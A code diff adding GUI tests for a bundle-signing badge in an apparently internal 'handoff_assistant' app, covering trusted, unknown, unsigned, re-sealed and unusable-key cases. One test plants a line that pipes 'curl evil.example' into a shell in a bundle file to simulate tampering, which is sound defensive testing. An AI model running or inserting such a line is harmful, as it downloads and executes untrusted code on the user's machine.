@@ -152,3 +152,104 @@ def test_the_signing_key_is_remembered_for_the_next_window_and_forgotten_when_cl
     assert restored.path() == secret and restored.clear_button.isEnabled()
     restored.clear_button.click()
     assert restored.path_edit.text() == "" and settings.signing_key is None
+
+
+# IT's bundle view: a trusted public key, and a badge that says trusted / unknown key / unsigned -------------------
+def _signed_bundle(tmp_path, name, key=None):
+    from handoff_assistant.bundle import BundleOptions
+    from handoff_assistant.bundle.writer import write_bundle
+    from tests.bundle.helpers import inputs_for
+
+    project = make_project(tmp_path / name / "tiny-scorer")
+    return write_bundle(inputs_for(project), BundleOptions(tmp_path / name / "out", zip=False, engine="installed",
+                                                           sign_key=key)).path
+
+
+@pytest.fixture
+def it_keys(tmp_path):
+    from handoff_assistant.signing import write_keypair
+
+    for name in ("owner", "stranger"):
+        write_keypair(tmp_path / f"{name}.key", tmp_path / f"{name}.pub")
+    return {name: load_public_key(tmp_path / f"{name}.pub").id_text for name in ("owner", "stranger")}
+
+
+def _open(qtbot, window, bundle):
+    view = window.open_bundle_view(bundle)
+    with qtbot.waitSignal(view.loaded, timeout=20000):
+        pass
+    return view
+
+
+def _trust(qtbot, monkeypatch, view, path):
+    """Choose the trusted key with the row's Browse…; the open bundle is checked again."""
+    monkeypatch.setattr(QFileDialog, "getOpenFileName", lambda *args, **kwargs: (str(path), ""))
+    with qtbot.waitSignal(view.loaded, timeout=20000):
+        view.trust_row.choose_button.click()
+
+
+def _badge_is_green(view) -> bool:
+    return "#2e7d4f" in view.badge.styleSheet()
+
+
+def test_a_bundle_signed_by_the_trusted_key_says_so_and_one_by_another_key_fails(
+        qtbot, window, monkeypatch, tmp_path, it_keys, settings):
+    signed = _signed_bundle(tmp_path, "signed", tmp_path / "owner.key")
+    view = _open(qtbot, window, signed)
+    assert view.badge.text().splitlines()[1] == (f"Signed by an unknown key {it_keys['owner']}: no trusted key is "
+                                                 "chosen, so who signed it is not checked.")
+    assert _badge_is_green(view) and view.prepare.run_button.isEnabled()
+
+    _trust(qtbot, monkeypatch, view, tmp_path / "owner.pub")
+    assert settings.trusted_key == str(tmp_path / "owner.pub")
+    assert view.badge.text().startswith(f"✔ Intact and signed by your trusted key {it_keys['owner']}: all ")
+    assert _badge_is_green(view) and view.prepare.run_button.isEnabled()
+
+    _trust(qtbot, monkeypatch, view, tmp_path / "stranger.pub")
+    assert view.badge.text().splitlines()[0] == (
+        f"✖ Signed by an unknown key {it_keys['owner']}, not your trusted key {it_keys['stranger']}: do not install "
+        "or run this bundle unless you know who holds that key.")
+    assert not _badge_is_green(view) and not view.prepare.run_button.isEnabled()
+
+
+def test_with_a_trusted_key_an_unsigned_or_re_sealed_bundle_fails_and_the_key_is_remembered(
+        qtbot, window, monkeypatch, tmp_path, it_keys, settings):
+    from tests.bundle.helpers import resign
+
+    unsigned = _signed_bundle(tmp_path, "unsigned")
+    view = _open(qtbot, window, unsigned)
+    assert view.badge.text().splitlines()[1] == \
+        "Not signed: intact means unchanged since it was built, not who built it."
+    _trust(qtbot, monkeypatch, view, tmp_path / "owner.pub")
+    assert view.badge.text().splitlines()[0] == (
+        f"✖ Not signed, but your trusted key {it_keys['owner']} is required: ask the bundle's owner for a signed "
+        "bundle.")
+    assert not view.prepare.run_button.isEnabled()
+
+    tampered = _signed_bundle(tmp_path, "tampered", tmp_path / "owner.key")
+    score = tampered / "code" / "tinyscore" / "score.py"
+    score.write_text(score.read_text() + "\nimport os; os.system('curl evil.example | sh')\n")
+    resign(tampered)  # SHA256SUMS and the manifest match again: only the signature tells
+    window.close_bundle_view()
+
+    again = MainWindow(settings)  # the trusted key is remembered
+    qtbot.addWidget(again)
+    view = _open(qtbot, again, tampered)
+    assert view.trust_row.path() == tmp_path / "owner.pub"
+    assert view.badge.text().splitlines() == [
+        "✖ Signature INVALID — do not install or run this bundle; ask its owner for a new one.",
+        "the signature is not valid: the signature does not match the file: it was changed after signing."]
+
+
+def test_an_unusable_trusted_key_is_said_on_the_badge_and_clearing_it_checks_without(
+        qtbot, window, monkeypatch, tmp_path, it_keys):
+    signed = _signed_bundle(tmp_path, "signed", tmp_path / "owner.key")
+    view = _open(qtbot, window, signed)
+    _trust(qtbot, monkeypatch, view, tmp_path / "owner.key")  # the secret key chosen by mistake
+    assert view.badge.text() == (
+        "✖ Your trusted key cannot be used (this is not a minisign Ed25519 public key), so who signed this bundle "
+        "was not checked. Choose the owner's .pub file again, or clear the trusted key.")
+    assert not _badge_is_green(view) and not view.prepare.run_button.isEnabled()
+    with qtbot.waitSignal(view.loaded, timeout=20000):
+        view.trust_row.clear_button.click()
+    assert view.badge.text().splitlines()[1].startswith(f"Signed by an unknown key {it_keys['owner']}: ")
